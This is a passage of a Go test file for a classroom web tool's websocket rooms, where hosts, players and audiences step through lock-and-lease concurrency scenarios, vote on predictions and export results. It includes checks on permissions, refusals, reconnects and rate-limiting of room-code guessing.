package web_test

import (
	"encoding/json"
	"errors"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gorilla/websocket"

	"relock/engine/course"
	"relock/engine/racetest"
	"relock/engine/scenario"
	"relock/web"
	"relock/web/film"
	"relock/web/link"
	"relock/web/words"
)

// attendee is a member of a room, as a bot would be one: by the contract alone.
type attendee struct {
	t    testing.TB
	conn *websocket.Conn
	id   int
	room struct {
		Title                       string
		Scene                       int
		Branch, At, Length, Members int
		Going                       *struct{ To string }
		Over                        bool
		Threads                     map[string]struct {
			By, Members []string
			Wished      map[string]string
			Next, Why   string
			Armed       string
			Knows       string
			Belief      int
			Watchdog    bool
		}
		Question     *roomQuestion
		Says, Why    string
		Stage        film.Stage
		Broken       string
		Veiled, Held bool
		Lobby        bool
		Lost         *int
		Scripts      int
		Lesson       *taughtNow
		Goal         *struct {
			Text string
			course.Verdict
		}
		People []struct{ Member, Part string }
	}
	epoch  string
	seq    int
	film   playPage        // as far as it came
	set    json.RawMessage // what a page had to have of another scenario
	found  searchFrame     // the last of a search
	member string
	token  string
}

type roomQuestion struct {
	ID, Votes, Of int
	Text          string
	Options       []string
	Closed        bool
	Counts        []int
	Right         *int
	Before        []int
	Talk, Veiled  bool
	Advice        string
	Kind, Call    string
	Start         string
}

type roomFrame struct {
	V       int
	Re      int
	Done    bool
	Refused string
	Epoch   string
	Seq     int
	Room    json.RawMessage
	Member  string
	Token   string
	Name    string
	Lost    bool
	Lanes   string
	Mine    *int
	Script  string
	Judged  *struct {
		Says, Open string
		Option     int
		Right      bool
	}

	Compared, Trace string

	Set json.RawMessage

	searchFrame
}

func (s site) visit(t testing.TB, code, lang string, headers http.Header) *attendee {
	t.Helper()
	if headers == nil {
		headers = http.Header{}
	}
	headers.Set("Origin", s.URL)
	u := "ws" + strings.TrimPrefix(s.URL, "http") + "/room/" + code + "/socket?lang=" + lang
	conn, res, err := websocket.DefaultDialer.DialContext(t.Context(), u, headers)
	if err != nil {
		t.Fatal(err, res)
	}
	t.Cleanup(func() { _ = conn.Close() })
	return &attendee{t: t, conn: conn, film: playPage{t: t, branches: map[int]*pageBranch{}}}
}

// read takes in one frame.
func (v *attendee) read() roomFrame {
	v.t.Helper()
	_ = v.conn.SetReadDeadline(time.Now().Add(time.Minute))
	_, text, err := v.conn.ReadMessage()
	if err != nil {
		v.t.Fatal(err)
	}
	text = asRead(text)
	var f roomFrame
	if err := json.Unmarshal(text, &f); err != nil {
		v.t.Fatal(err)
	}
	switch {
	case f.Room != nil:
		if f.Epoch != v.epoch && v.epoch != "" || f.Seq < v.seq {
			v.t.Errorf("epoch %s seq %d after %s %d", f.Epoch, f.Seq, v.epoch, v.seq)
		}
		v.epoch, v.seq = f.Epoch, f.Seq
		v.room.Question, v.room.Threads, v.room.Going, v.room.Lesson, v.room.Goal = nil, nil, nil, nil, nil
		v.room.Stage = film.Stage{}
		if err := json.Unmarshal(f.Room, &v.room); err != nil {
			v.t.Fatal(err)
		}
	case f.Set != nil:
		v.set = f.Set
	case f.Explored != nil || f.Mended != nil:
		v.found = f.searchFrame
	case f.Re == 0:
		var film playFrame
		if err := json.Unmarshal(text, &film); err != nil {
			v.t.Fatal(err)
		}
		v.film.take(film)
	}
	return f
}

// ask sends a command and reads until its answer.
func (v *attendee) ask(command object) roomFrame {
	v.t.Helper()
	v.id++
	command["id"] = v.id
	if err := v.conn.WriteJSON(command); err != nil {
		v.t.Fatal(err)
	}
	for {
		if f := v.read(); f.Re == v.id {
			return f
		}
	}
}

func (v *attendee) must(command object) roomFrame {
	v.t.Helper()
	f := v.ask(command)
	if !f.Done {
		v.t.Fatalf("%v: %s", command, f.Refused)
	}
	return f
}

// until reads until the room is as wanted.
func (v *attendee) until(what string, is func() bool) {
	v.t.Helper()
	for !is() {
		if f := v.read(); f.Refused != "" {
			v.t.Fatalf("waiting until %s: %s", what, f.Refused)
		}
	}
}

func (v *attendee) join(part string, more object) *attendee {
	v.t.Helper()
	command := object{"do": "join", "part": part}
	for key, value := range more {
		command[key] = value
	}
	f := v.must(command)
	if f.Member == "" || f.Token == "" || f.Name == "" {
		v.t.Errorf("the answer to join: %+v", f)
	}
	v.member, v.token = f.Member, f.Token
	return v
}

// closed reads until the connection is closed, and returns the code.
func (v *attendee) closed() int {
	v.t.Helper()
	_ = v.conn.SetReadDeadline(time.Now().Add(time.Minute))
	for {
		if _, _, err := v.conn.ReadMessage(); err != nil {
			var closed *websocket.CloseError
			if !errors.As(err, &closed) {
				v.t.Fatal(err)
			}
			return closed.Code
		}
	}
}

func (s site) makeRoom(t testing.TB, form url.Values) (code, secret string) {
	t.Helper()
	res, body := s.do(t, "POST", "/rooms", form, "Accept", "application/json")
	var made struct{ Code, Secret string }
	if err := json.Unmarshal([]byte(body), &made); err != nil || res.StatusCode != http.StatusCreated || len(made.Code) != 6 || made.Secret == "" {
		t.Fatalf("%d %s", res.StatusCode, body)
	}
	return made.Code, made.Secret
}

// By the time a member has an answer, they have seen the outcome of the command.
func TestWhatACommandCameToIsShownBeforeItsAnswer(t *testing.T) {
	s := open(t, nil)
	code, secret := s.makeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.visit(t, code, "en", nil).join("host", object{"secret": secret, "rows": true})
	phone := s.visit(t, code, "en", nil).join("player", nil)
	phone.must(object{"do": "claim", "thread": "A"})
	for n := range 6 {
		host.must(object{"do": "step"})
		if film := host.film.branches[0]; host.room.At != n+1 || len(film.positions) != n+2 {
			t.Errorf("after %d steps the host is shown %d, and has %d positions", n+1, host.room.At, len(film.positions))
		}
	}
	host.must(object{"do": "go", "branch": 0, "at": 0})
	if host.room.At != 0 {
		t.Errorf("after going back it is shown %d", host.room.At)
	}
	phone.must(object{"do": "step", "thread": "A"})
	if phone.room.At != 1 {
		t.Errorf("after a step the player is shown %d", phone.room.At)
	}
	host.must(object{"do": "time", "to": "by", "by": "3ms"})
	host.must(object{"do": "drop", "branch": 1})
	if _, there := host.film.branches[1]; there || host.room.Branch != 0 {
		t.Errorf("after the branch was dropped it is there: %t; all are on %d", there, host.room.Branch)
	}
}

// A host runs to something, cuts and compares; who is no host does not, and who
// has no film is not asked to make one.
func TestAHostRunsCutsAndCompares(t *testing.T) {
	s := open(t, nil)
	code, secret := s.makeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.visit(t, code, "en", nil).join("host", object{"secret": secret, "rows": true})
	phone := s.visit(t, code, "zh-CN", nil).join("player", nil)
	stage := s.visit(t, code, "en", nil).join("stage", object{"rows": true})
	host.must(object{"do": "run", "to": "end"})
	host.until("the run to end", func() bool { return host.room.Going == nil && host.room.Over })
	if n := len(host.film.branches[0].positions); host.room.At != n-1 || host.room.Length != n-1 || n < 9 {
		t.Errorf("it stands at %d of %d, with %d positions", host.room.At, host.room.Length, n)
	}
	host.must(object{"do": "cut", "branch": 0, "at": 2})
	if b := host.film.branches[1]; b == nil || len(b.positions) != 3 || host.room.Branch != 1 || host.room.At != 2 {
		t.Errorf("the branch that was cut is %+v; all stand at %d@%d", b, host.room.Branch, host.room.At)
	}
	stage.until("the stage is there", func() bool { return stage.room.Branch == 1 && stage.room.At == 2 })
	if b := stage.film.branches[1]; b == nil || len(b.positions) != 3 {
		t.Errorf("the stage has of it %+v", b)
	}
	if f := host.must(object{"do": "compare", "branch": 0, "with": 1, "names": []string{"main", "cut"}}); !strings.Contains(f.Compared, "main and cut") {
		t.Errorf("compared: %.200s", f.Compared)
	}
	if f := stage.must(object{"do": "trace", "branch": 1}); !strings.HasPrefix(f.Trace, "{") || strings.Count(f.Trace, "\n") < 3 {
		t.Errorf("the trace: %.200s", f.Trace)
	}
	if f := host.must(object{"do": "locks", "branch": 0, "protocols": []string{"reentrant", "fenced"}}); !strings.Contains(f.Compared, "fenced") {
		t.Errorf("on two locks: %.200s", f.Compared)
	}
	for _, c := range []struct {
		who     *attendee
		command object
		want    string
	}{
		{phone, object{"do": "compare", "branch": 0, "with": 1}, "rows: true"},
		{phone, object{"do": "run", "to": "end"}, "主持人"},
		{phone, object{"do": "cut", "branch": 0, "at": 1}, "主持人"},
		{stage, object{"do": "locks", "branch": 0, "protocols": []string{"reentrant", "fenced"}}, "host"},
		{host, object{"do": "compare", "branch": 0, "with": 7}, "no such branch"},
		{host, object{"do": "locks", "branch": 0, "protocols": []string{"reentrant"}}, "2 to 4"},
		{host, object{"do": "run", "to": "nowhere"}, "nowhere"},
	} {
		if f := c.who.ask(c.command); f.Done || !strings.Contains(f.Refused, c.want) {
			t.Errorf("%v: done %t, refused %q", c.command, f.Done, f.Refused)
		}
	}
}

func TestARoomByItsContract(t *testing.T) {
	s := open(t, nil)
	code, secret := s.makeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.visit(t, code, "en", nil).join("host", object{"secret": secret})
	stage := s.visit(t, code, "zh-CN", nil).join("stage", object{"rows": true})
	a := s.visit(t, code, "en", nil).join("player", object{"rows": true})
	b := s.visit(t, code, "zh-CN", nil).join("audience", nil)
	host.until("four are here, and two of them are asked", func() bool { return host.room.Members == 2 && len(host.room.People) == 4 })
	a.must(object{"do": "claim", "thread": "A"})
	a.until("A has a player", func() bool { return len(a.room.Threads["A"].By) == 1 })
	if next := a.room.Threads["A"]; next.Next == "" || next.Why != "" {
		t.Errorf("what A would do: %+v", next)
	}
	a.must(object{"do": "step", "thread": "A"})
	stage.until("the stage follows", func() bool { return stage.room.At == 1 })
	if !strings.HasPrefix(a.room.Says, "A. lock: acquired") || a.room.Why != "A has the lock: hold count 1, and a lease of 200 ms." {
		t.Errorf("of the row is said %q, because %q", a.room.Says, a.room.Why)
	}
	if rows := stage.film.branches[0].rows; len(rows) == 0 || len(stage.film.branches[0].positions) != 2 {
		t.Errorf("the stage has %d rows", len(rows))
	}
	if f := stage.must(object{"do": "lanes", "branch": 0, "row": 1}); !strings.Contains(f.Lanes, "<svg") {
		t.Errorf("lanes: %q", f.Lanes)
	}
	host.must(object{"do": "ask", "kind": "predict"})
	b.until("it is asked", func() bool { return b.room.Question != nil })
	q := b.room.Question
	if len(q.Options) < 3 || q.Closed || q.Counts != nil || q.Right != nil {
		t.Fatalf("asked: %+v", q)
	}
	if f := a.ask(object{"do": "step", "thread": "A"}); !strings.HasPrefix(f.Refused, "A question is open: the run goes on after it") {
		t.Errorf("a player goes on while a question is open: done %t, refused %q", f.Done, f.Refused)
	}
	b.must(object{"do": "vote", "option": 0})
	a.must(object{"do": "vote", "option": 1})
	host.until("both have voted", func() bool {
		return host.room.Question != nil && host.room.Question.Votes == 2 && host.room.Question.Of == 2
	})
	if host.room.Question.Counts != nil || host.room.Question.Right != nil {
		t.Error("the host sees votes that are hidden")
	}
	host.must(object{"do": "reveal"})
	b.until("it is revealed", func() bool { return b.room.Question != nil && b.room.Question.Closed })
	if q := b.room.Question; q.Talk != (q.Right != nil) { // half of them were right, or nobody
		t.Errorf("are they to talk first: %t; right is %v", q.Talk, q.Right)
	}
	if q := b.room.Question; q.Counts[0] != 1 || q.Counts[1] != 1 {
		t.Errorf("revealed: %+v", q)
	}
	host.must(object{"do": "tell"})
	b.until("it is told", func() bool { return b.room.Question != nil && b.room.Question.Right != nil })
	host.must(object{"do": "again"})
	a.must(object{"do": "vote", "option": *b.room.Question.Right})
	host.must(object{"do": "reveal"})
	b.until("both rounds are there", func() bool { return b.room.Question != nil && b.room.Question.Closed && b.room.Question.Before != nil })
	host.must(object{"do": "step"})
	host.must(object{"do": "go", "branch": 0, "at": 0})
	stage.until("the stage is back", func() bool { return stage.room.At == 0 && stage.room.Length == 2 })

	// A latecomer has everything at once.
	late := s.visit(t, code, "en", nil).join("audience", object{"rows": true})
	late.until("the state is there", func() bool { return late.room.Length == 2 })
	if n := len(late.film.branches[0].positions); n != 3 {
		t.Errorf("who comes late has %d positions, want 3", n)
	}

	res, body := s.do(t, "GET", "/room/"+code+"/votes.csv", nil, "Authorization", "Bearer "+secret)
	if lines := strings.Count(body, "\n"); res.StatusCode != http.StatusOK || lines != 4 {
		t.Errorf("%d: %d lines of votes, want a head and 3: %s", res.StatusCode, lines, body)
	}
	if head, rest, _ := strings.Cut(body, "\n"); !strings.HasSuffix(head, ",votes,share,step,scenario,title") || !strings.HasSuffix(strings.TrimSpace(rest), ",true,1,100%,T1,1,The lease ends before the work") {
		t.Errorf("votes: %s", body)
	}
	res, body = s.do(t, "GET", "/room/"+code+"/log", nil, "Authorization", "Bearer "+secret)
	if res.StatusCode != http.StatusOK || strings.Contains(body, `"proof":"`+"0") || !strings.Contains(body, `"vote"`) {
		t.Errorf("%d: %s", res.StatusCode, body)
	}
	if res, _ = s.do(t, "GET", "/room/"+code+"/votes.csv", nil); res.StatusCode != http.StatusForbidden {
		t.Errorf("anybody can have the votes: %d", res.StatusCode)
	}
	if res, body = s.do(t, "GET", "/room/"+code+"/branches", nil); res.StatusCode != http.StatusOK || !strings.Contains(body, "/play#v1.z.") {
		t.Errorf("%d: %s", res.StatusCode, body)
	}

	host.must(object{"do": "remove", "member": b.member})
	if got := b.closed(); got != 4041 {
		t.Errorf("removed: closed with %d", got)
	}
	host.must(object{"do": "end"})
	for home := false; !home; { // the last frame
		_, text, err := a.conn.ReadMessage()
		if err != nil {
			t.Fatal("closed without the links: ", err)
		}
		home = strings.Contains(string(text), `"link":"/play#v1.z.`)
	}
	if got := a.closed(); got != 4042 {
		t.Errorf("ended: closed with %d", got)
	}
}

// A host takes the class in hand, and lets it play again.
func TestAHeldClassWatchesAndVotes(t *testing.T) {
	s := open(t, nil)
	code, secret := s.makeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.visit(t, code, "en", nil).join("host", object{"secret": secret})
	a := s.visit(t, code, "zh-CN", nil).join("player", nil)
	a.must(object{"do": "claim", "thread": "A"})
	host.must(object{"do": "hold", "on": true})
	a.until("the class is held", func() bool { return a.room.Held })
	for _, command := range []object{
		{"do": "claim", "thread": "B"},
		{"do": "step", "thread": "A"},
		{"do": "step", "thread": "A", "background": true},
		{"do": "strike", "fault": object{"do": "pause", "thread": "A", "for": "300ms"}},
	} {
		if f := a.ask(command); f.Done || !strings.HasPrefix(f.Refused, "现在由主持人操作") {
			t.Errorf("%v while the class is held: %+v", command, f)
		}
	}
	host.must(object{"do": "step"})
	host.must(object{"do": "ask", "kind": "predict"})
	a.must(object{"do": "vote", "option": 0})
	if f := a.ask(object{"do": "hold", "on": false}); f.Done {
		t.Error("a player lets the class go")
	}
	host.must(object{"do": "close"})
	host.must(object{"do": "hold", "on": false})
	a.until("the class plays", func() bool { return !a.room.Held })
	a.must(object{"do": "claim", "thread": "B"})
}

// If few were right, nobody sees the answer until a host shows it; and a first vote can
// be for hosts alone.
func TestWhatAVoteGivesAway(t *testing.T) {
	s := open(t, nil)
	code, secret := s.makeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.visit(t, code, "en", nil).join("host", object{"secret": secret})
	stage := s.visit(t, code, "en", nil).join("stage", nil)
	var all []*attendee
	for range 20 {
		all = append(all, s.visit(t, code, "en", nil).join("audience", nil))
	}
	host.must(object{"do": "ask", "kind": "predict"})
	host.must(object{"do": "reveal"})
	if host.room.Question.Right == nil {
		t.Fatal("nobody has voted, and what is right is hidden")
	}
	right := *host.room.Question.Right
	wrong := 0
	if right == 0 {
		wrong = 1
	}
	follow := func() {
		stage.until("it has heard what the host has", func() bool { return stage.seq >= host.seq })
	}
	vote := func(rights int) {
		for n, one := range all {
			option := wrong
			if n < rights {
				option = right
			}
			one.must(object{"do": "vote", "option": option})
		}
		host.must(object{"do": "reveal"})
		follow()
	}
	for _, rights := range []int{0, 6, 15, 7} {
		host.must(object{"do": "ask", "kind": "predict"})
		vote(rights)
		for who, q := range map[string]*roomQuestion{"the stage": stage.room.Question, "the host": host.room.Question} {
			if (q.Right != nil) != (rights >= 7) || len(q.Counts) < 3 || q.Counts[right] != rights {
				t.Errorf("%d of 20 were right, and %s has %+v", rights, who, q)
			}
			advice := map[int]string{0: "Nobody was right: look at it together first", 6: "Few were right: look at it together first"}[rights]
			if advice != "" && q.Advice != advice {
				t.Errorf("%d of 20 were right, and %s is told %q", rights, who, q.Advice)
			}
		}
	}
	host.must(object{"do": "again"})
	vote(6)
	if q := stage.room.Question; q.Right != nil || q.Before == nil {
		t.Errorf("few were right in the second vote: %+v", q)
	}
	host.must(object{"do": "tell"})
	stage.until("it is told", func() bool { return stage.room.Question.Right != nil && *stage.room.Question.Right == right })

	// For hosts alone, until the second vote.
	host.must(object{"do": "veil"})
	host.must(object{"do": "ask", "kind": "predict"})
	vote(12)
	if q := host.room.Question; q.Counts == nil || !q.Talk || !q.Veiled {
		t.Errorf("the host has %+v", q)
	}
	if q := stage.room.Question; q.Counts != nil || q.Right != nil || !q.Veiled || q.Talk || !strings.Contains(q.Advice, "host") {
		t.Errorf("the stage has %+v", q)
	}
	host.must(object{"do": "again"})
	follow()
	if stage.room.Question.Before != nil || host.room.Question.Before == nil {
		t.Error("the first vote is seen in the second")
	}
	vote(20)
	if q := stage.room.Question; q.Counts == nil || q.Before == nil || q.Right == nil {
		t.Errorf("after the second vote the stage has %+v", q)
	}
	host.must(object{"do": "ask", "kind": "predict"})
	vote(2)
	host.must(object{"do": "tell"})
	stage.until("all is shown", func() bool { return stage.room.Question.Counts != nil && stage.room.Question.Right != nil })
}

// An item's own question is asked at its place, in the room's languages.
func TestAnItemAsksTheClass(t *testing.T) {
	racetest.Skip(t)
	s := open(t, nil)
	code, secret := s.makeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.visit(t, code, "en", nil).join("host", object{"secret": secret})
	stage := s.visit(t, code, "zh-CN", nil).join("stage", object{"rows": true})
	a := s.visit(t, code, "en", nil).join("player", nil)
	a.must(object{"do": "claim", "thread": "A"})
	built, err := course.BuiltIn(words.All())
	if err != nil {
		t.Fatal(err)
	}
	asked := map[course.Kind]int{}
	was, known := "", 0
	for _, item := range built.Items() {
		if asked[item.Kind] > 1 && item.Kind != course.Mend && item.Lab() == nil {
			continue
		}
		f := host.ask(object{"do": "ask", "item": item.Path()})
		made, err := item.Made()
		if err != nil {
			t.Fatal(err)
		}
		right := -1
		for n, answer := range made.Answers {
			if answer.Right {
				right = n
			}
		}
		switch {
		case item.Lab() != nil:
			if f.Refused == "" {
				t.Errorf("%s is asked, and no room can step what a lab recorded", item.Path())
			}
			continue
		case item.Kind == course.Read || item.Kind == course.Break || item.Kind == course.Arrange || item.Kind == course.Write || item.Kind == course.Diagnose:
			if f.Refused == "" {
				t.Errorf("%s, of the kind %s, is asked", item.Path(), item.Kind)
			}
			continue
		case f.Refused != "" && item.Kind == course.Mend && strings.Contains(f.Refused, "several"):
			continue
		case f.Refused != "":
			t.Errorf("%s is refused: %s", item.Path(), f.Refused)
			continue
		}
		asked[item.Kind]++
		stage.until("it is asked", func() bool { return stage.seq >= host.seq })
		q := stage.room.Question
		if q == nil || q.Text == was || len(q.Options) != len(made.Answers) || strings.ContainsAny(q.Text, "<*`") || slices.Contains(q.Options, "") || q.Right != nil {
			t.Errorf("%s asks %+v", item.Path(), q)
			continue
		}
		was = q.Text
		a.until("it is asked", func() bool { return a.seq >= host.seq })
		for who, one := range map[string]*attendee{"a phone": a, "the stage": stage} {
			tells := one.room.Why + one.room.Broken + one.room.Stage.Card.Odd
			for _, b := range one.room.Stage.Beliefs {
				tells += string(b.State) + b.Says + b.Does + b.Odd + string(b.Cord) + b.Tie + b.Need
				if b.Paused || b.Wrong || len(b.Calls) > 0 {
					tells += " belief"
				}
			}
			if !one.room.Stage.Covered || len(one.room.Stage.Beliefs) != len(one.room.Threads) || one.room.Stage.Card.Says == "" {
				t.Errorf("while %s is open, %s has the stage %+v", item.Path(), who, one.room.Stage)
			}
			for _, seat := range one.room.Threads {
				tells += seat.Next + seat.Why + seat.Armed + seat.Knows
				if seat.Watchdog || seat.Belief != -1 {
					tells += " belief"
				}
			}
			if tells != "" {
				t.Errorf("while %s is open, %s is told %q", item.Path(), who, tells)
			}
		}
		known += len(host.room.Threads["A"].Next + host.room.Threads["A"].Knows)
		run, events, row := made.Run, made.Stand, 0
		if item.Kind == course.Mend {
			run, events = made.Solved, len(made.Solved.Events)
		}
		if events > 0 {
			row = run.Events[events-1].Step
		}
		if b := stage.film.branches[stage.room.Branch]; b.positions[stage.room.At].Row != row {
			t.Errorf("%s stands at row %d, want %d", item.Path(), b.positions[stage.room.At].Row, row)
		}
		a.must(object{"do": "vote", "option": right})
		host.must(object{"do": "reveal"})
		if q := host.room.Question; q.Right == nil || *q.Right != right {
			t.Errorf("of %s is right: %v, want %d", item.Path(), q.Right, right)
		}
		host.must(object{"do": "close"})
	}
	if known == 0 {
		t.Error("the host is not told what A would do")
	}
	a.until("the question is closed", func() bool { return a.seq >= host.seq })
	if next := a.room.Threads["A"].Next + a.room.Threads["A"].Knows; next == "" {
		t.Error("the phone is told nothing once the question is closed")
	}
	if at := a.room.Stage; at.Covered || slices.ContainsFunc(at.Beliefs, func(b film.Belief) bool { return b.Says == "" }) {
		t.Errorf("once the question is closed the phone's stage is %+v", at)
	}
	if asked[course.Predict] < 2 || asked[course.Why] < 1 || asked[course.Mend] < 1 {
		t.Errorf("asked: %v", asked)
	}
	scene := host.room.Scene
	host.must(object{"do": "ask", "item": "lease/who-knows"})
	host.must(object{"do": "go", "branch": host.room.Branch, "at": 0})
	host.must(object{"do": "ask", "item": "lease/who-knows", "kind": "predict"})
	if host.room.Scene > scene+1 || host.room.At == 0 || len(host.room.Threads["A"].By) != 1 {
		t.Errorf("asked again, the class is at %d in scene %d", host.room.At, host.room.Scene)
	}
	for _, item := range []string{"nowhere", "lease/nowhere", "lease"} {
		if f := host.ask(object{"do": "ask", "item": item}); f.Refused == "" {
			t.Errorf("%q is asked", item)
		}
	}
}

// A host deals everybody out: the seats stay in the next scenario, and each phone
// knows what it wishes for.
func TestEverybodyIsDealtASeat(t *testing.T) {
	s := open(t, nil)
	code, secret := s.makeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.visit(t, code, "en", nil).join("host", object{"secret": secret})
	var all []*attendee
	for range 5 {
		all = append(all, s.visit(t, code, "en", nil).join("player", nil))
	}
	_ = s.visit(t, code, "en", nil).join("audience", nil)
	host.must(object{"do": "hold"})
	host.must(object{"do": "deal"})
	seated := func(a, b int) func() bool {
		return func() bool {
			return len(host.room.Threads["A"].Members) == a && len(host.room.Threads["B"].Members) == b
		}
	}
	host.until("five are at two threads", seated(3, 2))
	host.must(object{"do": "deal", "tables": 3})
	host.until("all are at one", seated(5, 0))
	host.must(object{"do": "hold", "on": false})
	all[0].must(object{"do": "step", "thread": "A"})
	all[1].must(object{"do": "step", "thread": "A"})
	all[1].until("a wish is known", func() bool { return all[1].room.Threads["A"].Wished[all[1].member] == "step" })
	all[2].must(object{"do": "step", "thread": "A"}) // most of them
	host.until("what is decided does not wait", func() bool { return host.room.At == 1 && len(host.room.Threads["A"].Wished) == 0 })
	host.must(object{"do": "open", "example": "no-lock-over-buying"})
	host.until("the seats stay", func() bool { return host.room.Scene == 1 && seated(5, 0)() && len(host.room.Threads) == 3 })
	for _, tables := range []any{0, -1, 1001, "two", 1.5} {
		if f := host.ask(object{"do": "deal", "tables": tables}); f.Refused == "" {
			t.Errorf("%v at least are dealt", tables)
		}
	}
}

func TestAClassGoesOnToAnotherScenario(t *testing.T) {
	s := open(t, nil)
	code, secret := s.makeRoom(t, url.Values{"example": {"lease-expiry"}})
	host := s.visit(t, code, "en", nil).join("host", object{"secret": secret})
	stage := s.visit(t, code, "zh-CN", nil).join("stage", object{"rows": true})
	phone := s.visit(t, code, "zh-CN", nil).join("player", object{"scene": 0})
	bot := s.visit(t, code, "en", nil).join("player", nil)
	phone.must(object{"do": "claim", "thread": "A"})
	host.must(object{"do": "step"})
	host.must(object{"do": "ask", "kind": "predict"})
	phone.must(object{"do": "vote", "option": 0})
	stage.until("there is a row", func() bool { return stage.room.At == 1 && stage.film.branches[0] != nil })
	was := stage.film.opened

	// A link with moves, in the middle.
	_, made := s.do(t, "GET", "/room/"+code+"/branches", nil)
	var list []struct {
		Branch, Number, Scene int
		Title, Link           string
	}
	if err := json.Unmarshal([]byte(made), &list); err != nil || len(list) != 1 {
		t.Fatal(err, made)
	}
	host.must(object{"do": "open", "example": "no-lock-over-buying"})
	for _, one := range []*attendee{stage, phone, bot, host} {
		one.until("it is in the next scenario", func() bool { return one.room.Scene == 1 })
		if one.room.Branch != 1 || one.room.At != 0 || one.room.Question != nil || len(one.room.Threads["A"].By) != 1 || len(one.room.Threads["B"].By) != 0 || len(one.room.Threads) != 3 {
			t.Errorf("it goes on to %+v", one.room)
		}
	}
	for key, part := range map[string]string{"cast": `data-cast="C"`, "lanes": "<svg", "head": "线程 C", "stage": `data-who="2"`, "rail": `aria-label="线程 C"`} {
		if html, _ := stage.film.opened[key].(string); !strings.Contains(html, part) {
			t.Errorf("the stage has as %s: %s", key, html)
		}
	}
	if o := stage.film.opened; o["title"] == was["title"] || o["scene"] != 1.0 || o["first"] != 1.0 {
		t.Errorf("the stage has %v, scene %v, first %v", o["title"], o["scene"], o["first"])
	}
	if b := stage.film.branches[1]; len(stage.film.branches) != 1 || b == nil || len(b.positions) == 0 || len(b.positions[0].Options) == 0 {
		t.Errorf("the stage has branches %+v", stage.film.branches)
	}
	if set := string(phone.set); !strings.Contains(set, `data-mine=\"C\"`) || !strings.Contains(set, "扮演") || !strings.Contains(set, `"scene":1`) {
		t.Errorf("the phone's page gets %s", set)
	}
	if bot.set != nil {
		t.Errorf("who has no page gets %s", bot.set)
	}
	late := s.visit(t, code, "en", nil).join("audience", object{"rows": true, "scene": 1})
	late.until("the state is there", func() bool { return late.room.Scene == 1 })
	if len(late.film.branches) != 1 || late.film.branches[1] == nil || late.set != nil {
		t.Errorf("who comes late has %+v and %s", late.film.branches, late.set)
	}
	host.must(object{"do": "step"})
	stage.until("it follows there", func() bool { return stage.room.At == 1 && len(stage.film.branches[1].rows) > 0 })

	// A link, with its moves, and an item of the course.
	link := strings.TrimPrefix(list[0].Link, "/play#")
	host.must(object{"do": "open", "link": link})
	stage.until("it is where the link says", func() bool { return stage.room.Scene == 2 && stage.room.Branch == 2 && stage.room.At == 1 })
	for what, link := range map[string]string{"that is broken": link[:len(link)-9] + "~0", "whose moves cannot be made": impossible(t)} {
		if f := host.ask(object{"do": "open", "link": link}); f.Refused == "" {
			t.Errorf("a link %s is opened", what)
		}
	}
	host.must(object{"do": "open", "item": "again/inner-unlock"})

	_, made = s.do(t, "GET", "/room/"+code+"/branches?lang=zh-CN", nil)
	if err := json.Unmarshal([]byte(made), &list); err != nil || len(list) != 4 {
		t.Fatal(err, made)
	}
	for n, b := range list {
		if b.Scene != n || b.Number != 0 || b.Branch != n || (b.Title == list[0].Title) != (n == 0 || n == 2) {
			t.Errorf("branch %d is %+v", n, b)
		}
	}
	_, votes := s.do(t, "GET", "/room/"+code+"/votes.csv", nil, "Authorization", "Bearer "+secret)
	if !strings.HasSuffix(strings.TrimSpace(votes), ",1,The lease ends before the work") {
		t.Errorf("votes: %s", votes)
	}
	host.must(object{"do": "end"})
	for { // the last frame
		_, text, err := bot.conn.ReadMessage()
		if err != nil {
			t.Fatal("closed without the links: ", err)
		}
		if n := strings.Count(string(text), `"link":"/play#v1.z.`); n > 0 {
			if n != 4 {
				t.Errorf("%d links are taken home, want 4", n)
			}
			break
		}
	}
}

func TestCommandsThatARoomRefuses(t *testing.T) {
	s := open(t, nil)
	code, _ := s.makeRoom(t, url.Values{"example": {"two-threads"}})
	v := s.visit(t, code, "zh-CN", nil)
	for name, c := range map[string]object{
		"before joining":   {"do": "step"},
		"no such command":  {"do": "fly"},
		"no such key":      {"do": "step", "speed": 9},
		"not of that type": {"do": "vote", "option": "first"},
	} {
		if f := v.ask(c); f.Refused == "" || f.Done {
			t.Errorf("%s: %+v", name, f)
		}
	}
	v.join("audience", nil)
	for name, c := range map[string]object{
		"no host":      {"do": "go", "branch": 0, "at": 0},
		"no player":    {"do": "claim", "thread": "A"},
		"not asked":    {"do": "vote", "option": 0},
		"joined":       {"do": "join", "part": "audience"},
		"guessed host": {"do": "give", "thread": "A", "member": v.member},
	} {
		if f := v.ask(c); f.Refused == "" || !strings.ContainsFunc(f.Refused, func(r rune) bool { return r > 0x2e80 }) {
			t.Errorf("%s: %q, want a sentence in Chinese", name, f.Refused)
		}
	}
}

func TestWhoComesBackToARoom(t *testing.T) {
	s := open(t, nil)
	code, _ := s.makeRoom(t, url.Values{"example": {"two-threads"}})
	first := s.visit(t, code, "en", nil).join("player", nil)
	second := s.visit(t, code, "en", nil).join("player", object{"member": first.member, "token": first.token})
	if second.member != first.member {
		t.Errorf("came back as %s, was %s", second.member, first.member)
	}
	if got := first.closed(); got != 4043 {
		t.Errorf("the other tab: closed with %d", got)
	}
}

func TestCodesCannotBeGuessed(t *testing.T) {
	racetest.Skip(t)
	t.Parallel()
	s := open(t, nil)
	code, _ := s.makeRoom(t, url.Values{"example": {"two-threads"}})
	status := 0
	for range 1000 { // a busy machine gives back almost as many as it takes
		res, _ := s.do(t, "GET", "/room/222222/branches", nil)
		if status = res.StatusCode; status != http.StatusNotFound {
			break
		}
	}
	if status != http.StatusTooManyRequests {
		t.Errorf("after a thousand guesses: %d", status)
	}
	for range 60 {
		_, _ = s.do(t, "GET", "/room/222222/branches", nil) // each costs a second
	}
	elsewhere, err := web.NewRoom(t.Context(), s.web)
	if err != nil {
		t.Fatal(err)
	}
	if res, _ := s.do(t, "GET", "/room/"+elsewhere+"/branches", nil); res.StatusCode != http.StatusTooManyRequests {
		t.Errorf("a right guess is told from a wrong one: %d", res.StatusCode)
	}
	if res, _ := s.do(t, "GET", "/room/"+code+"/branches", nil); res.StatusCode != http.StatusOK {
